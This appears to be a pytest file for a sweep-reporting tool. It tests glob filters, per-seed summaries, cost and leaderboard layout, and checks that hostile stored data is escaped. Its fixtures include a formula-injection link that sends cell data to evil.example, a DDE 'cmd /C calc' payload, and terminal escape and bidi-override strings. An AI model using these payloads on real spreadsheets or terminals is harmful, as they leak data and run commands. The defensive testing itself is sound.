"""Reports: glob filters run in PostgreSQL and mean what they mean in a shell;
repeats are summarised per config (mean, spread, seeds); the sweep's cost."""

from __future__ import annotations

import csv
import datetime as dt
import fnmatch
import json
import math
import re
from pathlib import Path
from typing import Any

import psycopg
import pytest
from rich.console import Console

from spotsweep.commands import listing
from spotsweep.services.reporter import report as reporter
from spotsweep.services.reporter.report import glob_to_similar
from spotsweep.services.reporter.safe import csv_cell, printable
from spotsweep.services.reporter.summary import by_config, cost_of
from spotsweep.services.reporter.values import fmt, metric_float, rank_key
from spotsweep.shared.nonfinite import json_safe as json_ready
from spotsweep.shared.db import Database
from spotsweep.shared.errors import PermanentError
from spotsweep.shared.settings import Settings

NAMES = ["deepseek_exp_001", "deepseek_exp_012", "deepseekXexp_1", "noop_03_x0_y-1", "a%b", "a_b", "run(1)", "x|y",
         "lr0.01", "lr0x01"]


@pytest.mark.parametrize("glob", ["deepseek_exp_*", "deepseek_exp_0?2", "noop_0[34]*", "*[!0-9]", "a%b", "a_b",
                                  "run(1)", "x|y", "lr0.01", "*"])
def test_glob_matches_like_fnmatch(database_url: str, glob: str) -> None:
    with psycopg.connect(database_url) as conn:
        got = {n for n in NAMES if conn.execute("SELECT %s SIMILAR TO %s", (n, glob_to_similar(glob))).fetchone()[0]}
    assert got == {n for n in NAMES if fnmatch.fnmatchcase(n, glob)}


# --- repeats: mean and spread over seeds; cost --------------------------------------------------

T0 = dt.datetime(2026, 1, 1, tzinfo=dt.timezone.utc)


def row(params: dict[str, Any], value: float | str | None, state: str = "completed", minutes: float = 30) -> dict[str, Any]:
    return {"params": params, "state": state, "metrics": {} if value is None else {"loss": value},
            "started_at": T0, "finished_at": T0 + dt.timedelta(minutes=minutes), "run_seconds": minutes * 60.0}


def test_repeats_are_summarised_per_config() -> None:
    rows = [row({"lr": 0.1, "seed": 0}, 1.0), row({"lr": 0.1, "seed": 1}, 3.0), row({"lr": 0.1, "seed": 2}, None, "failed"),
            row({"lr": 0.01, "seed": 0}, 1.5), row({"lr": 0.01, "seed": 1}, 1.7),
            row({"lr": 1, "seed": 0}, 0.5), row({"lr": True, "seed": 0}, 9.0)]  # 1 and True are two configs
    configs = by_config(rows, "loss", "min")
    assert [c.params for c in configs] == [{"lr": 1}, {"lr": 0.01}, {"lr": 0.1}, {"lr": True}]
    top = configs[1]
    assert (round(top.mean, 9), round(top.std or 0, 6), top.n, top.runs, top.seeds) == (1.6, 0.141421, 2, 2, (0, 1))
    assert (configs[2].mean, configs[2].n, configs[2].runs) == (2.0, 2, 3)
    assert configs[0].std is None
    assert [c.mean for c in by_config(rows, "loss", "max")][:2] == [9.0, 2.0]


def test_cost_from_the_trials_running_time() -> None:
    rows = [row({}, 1.0, minutes=30), row({}, 1.0, minutes=90), {**row({}, None, "pending"), "run_seconds": 0.0}]
    cost = cost_of(rows, gpus=2, pricing={"gpu_hour": 0.9, "on_demand_gpu_hour": 4.1})
    assert (cost.gpu_hours, round(cost.cost or 0, 6), round(cost.on_demand or 0, 6)) == (4.0, 3.6, 16.4)
    assert cost_of(rows, 1, None).cost is None
    assert cost_of(rows, 1, {"gpu_hour": 1.0}).on_demand is None


def test_report_of_a_repeated_sweep_shows_mean_and_spread(database_url: str) -> None:
    db = Database(database_url)
    db.migrate()
    spec = {"name": "rep", "command": ["t"], "metric": {"name": "loss", "mode": "min"}, "space": {"lr": [0.1, 0.01]},
            "repeats": 2, "resources": {"gpus": 1, "class": "gpu"}, "pricing": {"gpu_hour": 1.0, "on_demand_gpu_hour": 4.0}}
    with db.transaction() as conn:
        conn.execute("INSERT INTO sweeps (sweep_id, name, spec, state, total_trials) VALUES ('rep-1', 'rep', %s, 'completed', 4)",
                     (json.dumps(spec),))
        for i, (lr, seed, loss) in enumerate([(0.1, 0, 1.0), (0.1, 1, 1.4), (0.01, 0, 0.5), (0.01, 1, 0.7)]):
            conn.execute("INSERT INTO trials (trial_id, sweep_id, idx, trial_name, params, state, metrics, started_at, finished_at,"
                         " run_seconds) VALUES (%s, 'rep-1', %s, %s, %s, 'completed', %s, %s, %s, 900)",
                         (f"rep-1.{i}", i, f"rep_{i}", json.dumps({"lr": lr, "seed": seed}), json.dumps({"loss": loss}),
                          T0, T0 + dt.timedelta(minutes=15)))
    rep = reporter.build(db, "rep-1")
    assert [(c.params, round(c.mean, 6), c.n) for c in rep.configs] == [({"lr": 0.01}, 0.6, 2), ({"lr": 0.1}, 1.2, 2)]
    assert rep.cost is not None and rep.cost.gpu_hours == 1.0 and rep.cost.on_demand == 4.0
    console = Console(width=200, record=True)
    reporter.print_leaderboard(rep, out=console)
    text = console.export_text()
    assert "per config over seeds" in text and "0.141421" in text
    assert "cost: 1.00 GPU-h of running trials, 1.00 at the spot price, 4.00 on demand (saved 3.00)" in text


@pytest.mark.parametrize("width", [80, 120])
def test_the_leaderboard_reads_at_80_and_120_columns(database_url: str, width: int) -> None:
    """Wide sweeps keep the rank, the whole trial name, the objective and the attempts; the
    columns that do not fit are named, never squeezed until names are cut to '…'."""
    db = Database(database_url)
    db.migrate()
    space = {f"param_{k}": [0.001, 0.5] for k in range(6)}
    spec = {"name": "wide", "command": ["t"], "metric": {"name": "val_loss", "mode": "min"}, "space": space}
    metrics = {"val_loss": 0.25, **{f"metric_number_{k}": 123.456789 for k in range(8)}}
    names = ["deepseek_exp_001", "a_really_long_trial_name_from_a_format_string_with_every_param_0001"]
    with db.transaction() as conn:
        conn.execute("INSERT INTO sweeps (sweep_id, name, spec, state, total_trials) VALUES ('wide-1', 'wide', %s, "
                     "'completed', 2)", (json.dumps(spec),))
        for i, name in enumerate(names):
            conn.execute("INSERT INTO trials (trial_id, sweep_id, idx, trial_name, params, state, metrics) VALUES"
                         " (%s, 'wide-1', %s, %s, %s, 'completed', %s)",
                         (f"wide-1.{i}", i, name, json.dumps({p: 0.001 for p in space}),
                          json.dumps({**metrics, "val_loss": 0.25 + i})))
    console = Console(width=width, record=True)
    reporter.print_leaderboard(reporter.build(db, "wide-1"), out=console)
    text = console.export_text()
    lines = text.splitlines()
    assert max(len(line) for line in lines) <= width and "…" not in text
    assert "deepseek_exp_001" in text and "0.25" in text and "attempts" in text
    folded = "".join(line.split("│")[2].strip() for line in lines if line.count("│") > 3 and "#" not in line)
    assert names[1] in folded  # the long name wraps over lines, whole
    assert re.search(rf"not shown at {width} columns: .*metric_number_7", text, flags=re.S)
    if width == 120:
        assert "param_0" in text  # wider: more columns fit


# --- hostile data: shown as written, never run by a terminal or a spreadsheet --------------------

RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")  # tab and newline may lay out a table
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize(("raw", "escaped"), [
    ("a\x1b[2Jb", "a\\x1b[2Jb"), ("\x1b]0;title\x07", "\\x1b]0;title\\x07"), ("x\ry", "x\\x0dy"), ("nul\x00", "nul\\x00"),
    ("c1\x9b31m", "c1\\x9b31m"), ("abc\u202egpj.exe", "abc\\u202egpj.exe"), ("\u2066iso\u2069", "\\u2066iso\\u2069"),
    ("two\nlines", "two\\x0alines"), ("plain [b]text[/b] é", "plain [b]text[/b] é"),
])
def test_printable_shows_controls_and_bidi_overrides_as_escapes(raw: str, escaped: str) -> None:
    assert printable(raw) == escaped
    assert printable("a\nb\x1b", newlines=True) == "a\nb\\x1b"


@pytest.mark.parametrize(("value", "cell"), [
    (HYPERLINK, "'" + HYPERLINK), ("+1+2", "'+1+2"), ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"), ("\t=1", "'\\x09=1"), ("\r=1", "'\\x0d=1"), ("-1.5", "-1.5"), ("+3e-4", "+3e-4"),
    (-0.25, "-0.25"), (float("nan"), "nan"), (float("-inf"), "-inf"), ("-Infinity", "-inf"), ("NaN", "nan"),
    (None, ""), (3, "3"), ("a=b", "a=b"), ("x\x1b[2J", "x\\x1b[2J"), (0.1 + 0.2, "0.30000000000000004"),
])
def test_csv_cells_are_text_to_a_spreadsheet(value: object, cell: str) -> None:
    assert csv_cell(value) == cell


def test_stored_metric_values_read_show_and_rank() -> None:
    stored = [0.5, "NaN", 0.1, "Infinity", "-Infinity", 2, None, "x", True]
    assert [fmt(v) for v in stored] == ["0.5", "nan", "0.1", "inf", "-inf", "2", "", "x", "True"]
    assert [metric_float(v) for v in ("NaN", "-Infinity", 3, True, "3")][1:] == [-math.inf, 3.0, None, None]
    assert math.isnan(metric_float("NaN") or 0.0)
    assert sorted(stored, key=lambda v: rank_key(v, "min"))[:3] == [0.1, 0.5, 2]
    assert sorted(stored, key=lambda v: rank_key(v, "max"))[:3] == [2, 0.5, 0.1]  # -inf is no best for max either
    assert json.dumps(json_ready({"a": [math.nan, math.inf, -math.inf, 1.5]}), allow_nan=False) == \
        '{"a": ["NaN", "Infinity", "-Infinity", 1.5]}'


def test_a_config_with_a_diverged_seed_ranks_last() -> None:
    rows = [row({"lr": 0.1, "seed": 0}, 1.0), row({"lr": 0.1, "seed": 1}, "NaN"),  # stored as the contract writes it
            row({"lr": 0.2, "seed": 0}, 3.0), row({"lr": 0.3, "seed": 0}, "Infinity")]
    for mode in ("min", "max"):
        configs = by_config(rows, "loss", mode)
        assert configs[0].params["lr"] == 0.2 and {c.params["lr"] for c in configs[1:]} == {0.1, 0.3}
        assert all(not math.isfinite(c.mean) and c.std is None for c in configs[1:])


HOSTILE_SWEEP = "hostile-0000000a"


@pytest.fixture()
def hostile_db(database_url: str) -> Database:
    """A sweep whose trials hold markup, terminal escapes, formulas, NaN and infinities, and a
    rejected sweep named like markup: written straight into the tables, as a raw message or an
    older version could have left them."""
    db = Database(database_url)
    db.migrate()
    spec = {"name": "hostile", "command": ["t"], "metric": {"name": "loss", "mode": "min"}, "space": {"p": ["a"]}}
    trials = [  # name, params, state, metrics, error, flags, warnings
        ("[/oops]_0", {"p": "[link=https://evil.example]click[/link]"}, "completed", {"loss": 0.5, "\x1b]0;pwned\x07": 1}, None,
         [], []),
        ("clear\x1b[2J\x1b[H_1\u202e", {"p": HYPERLINK}, "completed", {"loss": "NaN"}, None, ["nan"], []),
        ("minus_2", {"p": "-2+3+cmd|' /C calc'!A0"}, "completed", {"loss": "-Infinity"}, None, [], []),
        ("best_3", {"p": "@SUM(A1)"}, "completed", {"loss": 0.1}, None, ["skipped_lines"],
         [f"line {i}: metric name holds a control character: '\\x1b[31m'" for i in range(7)]),
        ("failed_4", {"p": "\r=1"}, "failed", {}, f"Traceback\n  boom\n{HYPERLINK}\x1b[31m red \x9b2J", [], []),
    ]
    with db.transaction() as conn:
        conn.execute("INSERT INTO sweeps (sweep_id, name, spec, state, total_trials) VALUES (%s, 'hostile', %s, 'completed', 5)",
                     (HOSTILE_SWEEP, json.dumps(spec)))
        conn.execute("INSERT INTO sweeps (sweep_id, name, state, error) VALUES ('boom-0000000b', '[/boom]\x1b]0;t\x07', 'rejected',"
                     " %s)", ("[/boom] bad spec\x1b[2J; " + "x" * 10_000,))
        for i, (name, params, state, metrics, error, flags, warnings) in enumerate(trials):
            conn.execute("INSERT INTO trials (trial_id, sweep_id, idx, trial_name, params, state, metrics, error, flags, warnings)"
                         " VALUES (%s, %s, %s, %s, %s, %s, %s, %s, %s, %s)",
                         (f"{HOSTILE_SWEEP}.{i}", HOSTILE_SWEEP, i, name, json.dumps(params), state, json.dumps(metrics), error,
                          flags, warnings))
    return db


def test_a_leaderboard_shows_hostile_data_literally_and_ranks_non_finite_last(hostile_db: Database) -> None:
    rep = reporter.build(hostile_db, HOSTILE_SWEEP)
    assert [r["trial_name"] for r in rep.ranked][:2] == ["best_3", "[/oops]_0"]  # nan and -inf after every finite value
    assert {r["trial_name"] for r in rep.ranked[2:]} == {"minus_2", "clear\x1b[2J\x1b[H_1\u202e"}
    console = Console(width=400, record=True)
    reporter.print_leaderboard(rep, out=console)
    text = console.export_text()
    assert RAW_CONTROL.search(text) is None, text
    assert "[/oops]_0" in text and "[link=https://evil.example]click[/link]" in text  # markup shown, not run
    assert "clear\\x1b[2J\\x1b[H_1\\u202e" in text and "\\x1b]0;pwned\\x07" in text
    assert " nan " in text and " -inf " in text
    assert f"failed_4: failed: {HYPERLINK}\\x1b[31m red \\x9b2J" in text  # the error's last line, escaped
    assert "2 trial(s) with warnings:" in text and "best_3 [skipped_lines]" in text and "and 4 more warning(s)" in text
    assert "href" not in console.export_html()  # no hidden link


def test_a_csv_of_hostile_data_has_no_live_formula_and_no_raw_control(hostile_db: Database, tmp_path: Path) -> None:
    path = tmp_path / "r.csv"
    assert reporter.write_csv(reporter.build(hostile_db, HOSTILE_SWEEP), path) == 5
    with path.open(newline="") as f:
        header, *rows = list(csv.reader(f))
    cells = [c for r in [header, *rows] for c in r]
    assert not [c for c in cells if RAW_CONTROL.search(c) or (c[:1] in ("=", "+", "-", "@") and not _number(c))]
    by_name = {r[0]: dict(zip(header, r)) for r in rows}
    assert by_name["clear\\x1b[2J\\x1b[H_1\\u202e"]["loss"] == "nan" and by_name["minus_2"]["loss"] == "-inf"
    assert by_name["clear\\x1b[2J\\x1b[H_1\\u202e"]["p"] == "'" + HYPERLINK
    assert by_name["failed_4"]["error"] == f"'{HYPERLINK}\\x1b[31m red \\x9b2J"
    assert "\\x1b]0;pwned\\x07" in header


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _settings(db: Database) -> Settings:
    return Settings(database_url=db.url)


def test_ls_and_status_show_hostile_rows_literally(hostile_db: Database, capsys: pytest.CaptureFixture[str]) -> None:
    assert listing.list_trials([], _settings(hostile_db), as_json=False) == 0
    ls = capsys.readouterr().out
    assert RAW_CONTROL.search(ls) is None, ls
    assert "[/oops]_0" in ls and "clear\\x1b[2J\\x1b[H_1\\u202e" in ls and "loss=nan" in ls and "loss=-inf" in ls
    assert "[skipped_lines]" in ls and "[nan]" in ls  # the runs' flags as badges
    assert listing.status(None, _settings(hostile_db), as_json=False) == 0
    status = capsys.readouterr().out
    assert RAW_CONTROL.search(status) is None, status
    assert "[/boom]\\x1b]0;t\\x07" in status and "boom-0000000b rejected: [/boom] bad spec\\x1b[2J; xxx" in status
    assert "more characters]" in status and len(status) < 8000  # the 10,000-character error is cut


def test_json_output_is_strict_json_with_the_contract_s_strings(hostile_db: Database,
                                                                  capsys: pytest.CaptureFixture[str]) -> None:
    assert listing.list_trials(["sweep=hostile-*"], _settings(hostile_db), as_json=True) == 0
    out = capsys.readouterr().out
    assert RAW_CONTROL.search(out) is None
    rows = json.loads(out, parse_constant=lambda c: pytest.fail(f"non-strict JSON constant {c}"))
    assert {r["trial_name"]: r["metrics"].get("loss") for r in rows}["minus_2"] == "-Infinity"


def test_a_report_with_many_metrics_shows_the_objective_and_a_few_others(database_url: str, tmp_path: Path) -> None:
    db = Database(database_url)
    db.migrate()
    spec = {"name": "wide", "command": ["t"], "metric": {"name": "zloss", "mode": "min"}, "space": {"x": [0, 1, 2]}}
    with db.transaction() as conn:
        conn.execute("INSERT INTO sweeps (sweep_id, name, spec, state, total_trials) VALUES ('wide-0000000c', 'wide', %s,"
                     " 'completed', 3)", (json.dumps(spec),))
        for i in range(3):
            metrics = {f"m{i}_{j:03d}": j for j in range(400)} | {"zloss": 3 - i}
            conn.execute("INSERT INTO trials (trial_id, sweep_id, idx, trial_name, params, state, metrics) VALUES"
                         " (%s, 'wide-0000000c', %s, %s, %s, 'completed', %s)",
                         (f"wide.{i}", i, f"w{i}", json.dumps({"x": i}), json.dumps(metrics)))
    rep = reporter.build(db, "wide-0000000c")
    assert rep.metrics == ["zloss", *[f"m0_{j:03d}" for j in range(reporter.SHOWN_METRICS)]]
    assert len(rep.every_metric) == 1201 and rep.hidden_metrics == 1192
    console = Console(width=400, record=True)
    reporter.print_leaderboard(rep, out=console)
    assert "1192 more metric(s) not shown: choose with --metrics" in console.export_text()
    chosen = reporter.build(db, "wide-0000000c", ["m2_399", "m1_007", "zloss"])
    assert chosen.metrics == ["zloss", "m2_399", "m1_007"]
    with pytest.raises(PermanentError, match="--metrics: no trial of this sweep reported 'nope'"):
        reporter.build(db, "wide-0000000c", ["nope"])
    path = tmp_path / "all.csv"
    reporter.write_csv(rep, path)
    header, *rows = list(csv.reader(path.open(newline="")))
    assert len(header) == 3 + 1201 + 3 and rows[0][:4] == ["w2", "completed", "2", "1"]
    assert rows[0][header.index("m2_123")] == "123" and rows[0][header.index("m0_123")] == ""
